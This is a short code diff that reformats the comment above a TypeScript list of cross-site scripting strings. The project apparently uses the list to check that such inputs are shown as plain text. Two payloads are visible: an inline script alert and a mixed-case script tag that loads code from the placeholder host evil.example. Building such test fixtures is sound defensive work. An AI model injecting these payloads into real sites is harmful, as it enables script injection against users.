@@ -1,4 +1,7 @@
-/** R52 forty ways in which words have become markup or script somewhere. Shown anywhere of ours they are words. */
+/**
+ * R52 forty ways in which words have become markup or script somewhere. Shown anywhere of ours they
+ * are words.
+ */
 export const xssStrings: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
